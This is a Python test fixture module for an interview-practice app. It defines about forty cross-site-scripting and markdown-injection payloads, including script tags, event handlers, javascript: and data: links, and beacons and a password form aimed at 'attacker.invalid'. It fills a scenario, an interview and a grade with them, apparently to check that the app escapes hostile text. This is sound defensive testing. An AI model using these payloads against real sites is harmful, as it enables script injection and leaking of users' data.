"""Forty texts that try to become more than text, and a scenario, an interview and a grade that are full of them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

from interviewer.domain.assessment import Assessment, Dispute, Gap, RedFlag, Rewrite, Star, StarElement
from interviewer.domain.interview import Interview, Move
from interviewer.domain.moves import closing
from interviewer.domain.scenario import Scenario
from tests.builders import NOW, a_scenario, a_turn, an_assessment, an_interview

HOST = "attacker.invalid"
WEB = f"http://{HOST}"
PAYLOADS = (
    "<script>alert(1)</script>",
    f"<script src={WEB}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{WEB}/beacon?d=said">',
    "<svg onload=alert(1)></svg>",
    f'<svg><image href="{WEB}/s.png"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    f'<iframe src="{WEB}/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{WEB}/o"></object>',
    f'<embed src="{WEB}/e">',
    f'<link rel="stylesheet" href="{WEB}/c.css">',
    f"<style>@import url({WEB}/i.css);</style>",
    f'<div style="background:url({WEB}/b.png)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={WEB}/m">',
    f'<base href="{WEB}/">',
    f'<form action="{WEB}/f"><input name=password></form>',
    "<details open ontoggle=alert(1)>open</details>",
    "<video src=x onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    f"![beacon]({WEB}/img.png?d=said)",
    f"!![](x)[beacon]({WEB}/nested.png)",
    f"![beacon][ref]\n\n[ref]: {WEB}/ref.png",
    f"![beacon]\n\n[beacon]: <{WEB}/short.png>",
    f"[![badge]({WEB}/badge.svg)]({WEB})",
    "[click](javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "\\[click](data:text/html,1) \\\\[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    f"<{WEB}/autolink> and {WEB}/bare and www.{HOST} and ann@{HOST}",
    rf"$\href{{javascript:alert(1)}}{{click}} \includegraphics{{{WEB}/l.png}}$",
    rf"$$\htmlData{{a=b}}{{x}} \url{{{WEB}}}$$",
    f"<!-- hidden --><!--><img src={WEB}/comment.png>-->",
    ":material/delete: :red[red] :red-background[marked] :small[small] :smile: :shimmer[x] :streamlit:",
    "&lt;img src=x onerror=alert(1)&gt; &#33;[x](http://attacker.invalid/entity.png) &#x3c;script&#x3e;",
    f"`code` ```\n<img src={WEB}/fence.png>\n``` \\`![x]({WEB}/tick.png)\\`",
    "\u202e)1(trela:tpircsavaj\u202c \u0000\u001b[31m\u200b<script>alert(1)</script>",
)
ALL = "\n\n".join(PAYLOADS)


def hostile_scenario() -> Scenario:
    """A scenario in which every text that is ever drawn holds every payload."""
    plain = a_scenario()
    points = [
        {**point.model_dump(), "text": f"{point.text} {ALL}", "why": ALL, "strong": ALL, "sources": (f"{WEB}/<img>",)}
        for point in plain.key_points
    ]
    return a_scenario(
        title=f"Hostile {' '.join(PAYLOADS[:3])} {PAYLOADS[21]} {PAYLOADS[36]}",
        topics=(PAYLOADS[2], ":red[topic]", "![t](http://attacker.invalid/t.png)"[:40]),
        technologies=(PAYLOADS[4], "[t](javascript:alert(1))", "![x](//attacker.invalid/1.png)"),
        status="draft",
        key_points=tuple(points),
        probes=tuple({**probe.model_dump(), "ask": f"{ALL}?"} for probe in plain.probes),
        hints=tuple({**hint.model_dump(), "text": ALL} for hint in plain.hints),
        exhibits=(
            {
                "id": "lines",
                "title": f"{PAYLOADS[2]} {PAYLOADS[21]}",
                "kind": "plan",
                "file": "lines.txt",
                "asked_by": ("lines",),
                "made": ALL,
                "content": ALL,
            },
            {
                "id": "rows",
                "title": PAYLOADS[36],
                "kind": "chart",
                "file": "rows.csv",
                "asked_by": ("rows",),
                "made": ALL,
                "content": f'"{PAYLOADS[2]}","{PAYLOADS[21]}"\n1,2\n3,4\n',
            },
            {
                "id": "table",
                "title": PAYLOADS[20],
                "kind": "table",
                "file": "table.csv",
                "asked_by": ("table",),
                "made": ALL,
                "content": "name,value\n" + "".join(f'"{_cell(text)}",1\n' for text in PAYLOADS),
            },
        ),
        question=ALL,
        reference=ALL,
        story=" ".join(ALL.split()),
        sources=(f"{WEB}/<img> {ALL}",),
    )


def written(folder: Path, scenario: Scenario) -> None:
    """The scenario as a file that the app reads from this folder.

    Its reference is the usual one, since the app takes no file whose question repeats the reference.
    """
    scenario = scenario.model_copy(update={"reference": a_scenario().reference})
    head: dict[str, Any] = scenario.model_dump(mode="json", by_alias=True, exclude={"exhibits", "context"})
    exhibits = [exhibit.model_dump(exclude={"content"}) for exhibit in scenario.exhibits]
    for exhibit in scenario.exhibits:
        (folder / exhibit.file).write_text(exhibit.content, encoding="utf-8")
    whole = {**head, "exhibits": [{**exhibit, "asked_by": list(exhibit["asked_by"])} for exhibit in exhibits]}
    for exhibit in whole["exhibits"]:
        exhibit["shows"] = list(exhibit["shows"])
    (folder / f"{scenario.id}.yaml").write_text(yaml.safe_dump(whole, allow_unicode=True), encoding="utf-8")


def hostile_interview(scenario: Scenario) -> Interview:
    """Every payload said by the candidate and by a model, and every kind of authored turn full of them."""
    interview = an_interview(scenario=scenario)
    for text in PAYLOADS:
        interview = interview.with_turn(a_turn(len(interview.turns), f"I say: {text}"))
        probe = scenario.probes[0]
        move = Move(kind="probe", text=text, ask=text, probe=probe.id, type=probe.type, target="cause", reason=text)
        interview = interview.with_turn(
            a_turn(len(interview.turns), text, role="interviewer", move=move, engine=text, note=text)
        )
    for kind in ("hint", "context"):
        interview = interview.with_turn(a_turn(len(interview.turns), "More, please."))
        move = Move(kind=kind, text=ALL, reason="for a test", hint_level=1 if kind == "hint" else None)
        interview = interview.with_turn(a_turn(len(interview.turns), ALL, role="interviewer", move=move))
    for exhibit in scenario.exhibits:
        interview = interview.with_turn(a_turn(len(interview.turns), "Show me."))
        move = Move(kind="context", text=ALL, reason="for a test", exhibit=exhibit.id)
        interview = interview.with_turn(a_turn(len(interview.turns), ALL, role="interviewer", move=move))
    return interview


def ended(interview: Interview) -> Interview:
    interview = interview.with_turn(a_turn(len(interview.turns), f"I say at last: {ALL}"))
    move = closing("candidate")
    return interview.with_turn(a_turn(len(interview.turns), ALL, role="interviewer", move=move)).model_copy(
        update={"ended": "candidate"}
    )


def hostile_grade(interview: Interview) -> Assessment:
    """A grade by a model that answers with payloads wherever it may answer in words."""
    grade = an_assessment(interview)
    said = grade.points[0].verdict
    assert said is not None
    points = tuple(
        point.model_copy(
            update={"verdict": point.verdict and point.verdict.model_copy(update={"reason": ALL, "evidence": ()})}
        )
        for point in grade.points[1:]
    )
    element = StarElement(status="thin", quote=ALL, note=ALL)
    return grade.model_copy(
        update={
            "engine": PAYLOADS[2] + PAYLOADS[21],
            "points": (grade.points[0], *points),
            "signal_reason": ALL,
            "warnings": PAYLOADS,
            "gaps": tuple(
                Gap(key_point=point.key_point, missing=ALL, why=ALL, strong=ALL, sources=(f"{WEB}/<img>", text))
                for point, text in zip(points, PAYLOADS[26:29], strict=False)
            ),
            "red_flags": (
                RedFlag(key_point="cause", mistake=ALL, evidence=said.evidence[0].model_copy(update={"text": ALL})),
            ),
            "star": Star(situation=element, task=element, action=element, result=element),
            "rewrite": Rewrite(situation=ALL, task=ALL, action=ALL, result=ALL, engine="coach", note=ALL),
            "disputes": (
                Dispute(
                    key_point="key",
                    argument=ALL,
                    before=points[0],
                    after=points[0],
                    engine=PAYLOADS[2],
                    reason=ALL,
                    at=NOW,
                ),
            ),
        }
    )


def _cell(text: str) -> str:
    return " ".join(text.replace('"', '""').replace("\0", "").split())
